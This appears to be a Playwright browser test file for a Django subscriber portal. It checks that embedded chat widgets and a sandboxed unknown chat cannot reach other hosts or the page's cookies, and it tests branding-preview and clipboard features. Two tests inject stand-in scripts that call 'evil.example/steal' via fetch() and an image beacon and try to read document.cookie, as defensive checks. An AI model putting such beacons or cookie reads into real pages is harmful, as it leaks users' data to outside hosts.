"""What the scripts of the settings and of the chat do in a real browser, under the policies that we send.

The pages come from Django and are handed to the browser as they are; nothing listens and nothing leaves the machine.
"""

import shutil
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from django.contrib.staticfiles import finders
from playwright.sync_api import Page, Route, expect, sync_playwright

from company.branding import readings
from company.chat_vendors import recognise
from company.services import set_chat
from core.scope import isp_scope
from tests.company.test_chat_vendors import CHATWOOT, CRISP, OTHER, SMARTSUPP, TAWK, TIDIO
from tests.dashboard.settings_pages import staff_client
from tests.factories.company import picture
from tests.factories.subscribers import PASSWORD, PortalUserFactory

pytestmark = [pytest.mark.browser, pytest.mark.needs("chromium")]
TYPES = {"css": "text/css", "js": "text/javascript", "svg": "image/svg+xml"}


@contextmanager
def browser(answers, outside="") -> Iterator[tuple[Page, list[str]]]:
    """A page, and the addresses outside our own that it asked for. `answers` are our responses by address."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        address = route.request.url
        if address in answers:
            response = answers[address]
            route.fulfill(status=response.status_code, headers=dict(response.headers), body=response.content)
        elif "/static/" in address:
            path = finders.find(address.partition("/static/")[2])
            route.fulfill(path=path, content_type=TYPES.get(path.rpartition(".")[2], "application/octet-stream"))
        else:
            asked.append(address)
            route.fulfill(content_type="text/javascript", body=outside, headers={"Access-Control-Allow-Origin": "*"})

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        page = chromium.new_page()
        page.route("**/*", answer)
        yield page, asked
        chromium.close()


@pytest.fixture
def portal(isp, at):
    """`portal(script)` is the home page of a signed-in subscriber with this chat, and the chat's own document."""
    with isp_scope(isp):
        PortalUserFactory(username="maria")
    client = at("wispmega.localhost")
    client.post("/sign-in/", {"login": "maria", "password": PASSWORD})

    def visit(script):
        with isp_scope(isp):
            set_chat(chat=recognise(script), by=None)
        return {f"http://wispmega.localhost{path}": client.get(path) for path in ("/", "/chat/")}

    return visit


KNOWN = [
    (SMARTSUPP, "https://www.smartsuppchat.com/loader.js?", "_smartsupp.key"),
    (TIDIO, "https://code.tidio.co/4cydyg5ubfb3qqcdbfu16cyytczaxlds.js", "'4cydyg5ubfb3qqcdbfu16cyytczaxlds'"),
    (TAWK, "https://embed.tawk.to/645f277b74285f0ec46b34d0/1h0ngmpml", "'645f277b74285f0ec46b34d0/1h0ngmpml'"),
    (CRISP, "https://client.crisp.chat/l.js", "CRISP_WEBSITE_ID"),
    (CHATWOOT, "https://app.chatwoot.com/packs/js/sdk.js", "chatStarted.websiteToken"),
]


def test_each_known_chat_starts_with_its_id_and_its_program_reaches_nobody_else(portal, in_isp):
    program = """
      window.programRan = true;
      window.chatwootSDK = { run(options) { window.chatStarted = options; } };
      new Image().src = "https://evil.example/steal";
      fetch("https://evil.example/steal").catch(() => {});
    """
    answers: dict = {}
    visits = [(portal(script), recognise(script).account, address, started) for script, address, started in KNOWN]
    with browser(answers, program) as (page, asked):
        for pages, account, address, started in visits:
            answers |= pages
            asked.clear()
            page.goto("http://wispmega.localhost/")
            # The page's policy forbids Playwright's own waiting for a value, which evaluates a string in it.
            for _ in range(200):
                if page.evaluate("window.programRan"):
                    break
                page.wait_for_timeout(50)
            page.wait_for_timeout(200)
            assert page.evaluate(started) == account
            assert asked == [address]


def test_an_unknown_chat_runs_in_its_frame_and_cannot_reach_the_page(portal):
    program = """
      const reach = (what) => { try { return String(what()); } catch (error) { return error.name; } };
      document.title = [reach(() => document.cookie), reach(() => parent.document.title), origin].join();
      fetch("http://wispmega.localhost/account/").catch(() => {});
      fetch("https://evil.example/steal").catch(() => {});
    """
    with browser(portal(OTHER), program) as (page, asked):
        page.goto("http://wispmega.localhost/")
        assert page.locator("iframe").is_hidden()
        page.get_by_text("Chat", exact=True).click()
        page.wait_for_timeout(500)
        frame = next(frame for frame in page.frames if frame.url.endswith("/chat/"))
        assert frame.title() == "SecurityError,SecurityError,null"
        # Opened by itself it is no more of ours than in the frame.
        page.goto("http://wispmega.localhost/chat/")
        assert page.title().endswith(",null")
    assert set(asked) == {"https://widget.livehelp.example/v2/start.js?id=77"}


def test_the_preview_follows_colour_greeting_and_logo_and_says_the_same_as_the_server(isp, tmp_path):
    logo = tmp_path / "logo.png"
    logo.write_bytes(picture().read())
    address = "http://app.localhost/wispmega/settings/branding/"
    pages = {address: staff_client(isp).get("/wispmega/settings/branding/")}
    with browser(pages) as (page, asked):
        page.goto(address)
        for colour in ("#ffff00", "#e85d04", "#001a4d", "#767676", "#949494"):
            page.fill("#id_colour", colour)
            for name, reading in readings(colour).items():
                said = page.locator(f'[data-reading="{name}"]').inner_text()
                assert str(reading.text) in said
                assert f"({reading.ratio:.2f} : 1)" in said
            assert page.locator("#brand-preview").evaluate("e => e.style.getPropertyValue('--brand')") == colour
            assert page.locator("#colour-picker").input_value() == colour
        page.fill("#id_colour", "#12")
        assert page.locator("#colour-picker").input_value() == "#949494"
        page.fill("#id_welcome", "<b>Hola</b>")
        assert page.locator('[data-preview="welcome"]').inner_text() == "<b>Hola</b>"
        page.set_input_files("#id_logo", logo)
        expect(page.locator('[data-preview="logo"]')).to_have_js_property("naturalWidth", 800)
        assert page.locator('[data-preview="name"]').is_hidden()
    assert asked == []


def test_the_address_is_copied(isp):
    address = "http://app.localhost/wispmega/settings/portal/"
    pages = {address: staff_client(isp).get("/wispmega/settings/portal/")}
    with browser(pages) as (page, _asked):
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        page.goto(address)
        page.get_by_label("Copy the address").first.click()
        page.get_by_text("Copied").wait_for()
        copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == "http://wispmega.localhost/install/wispmega/"
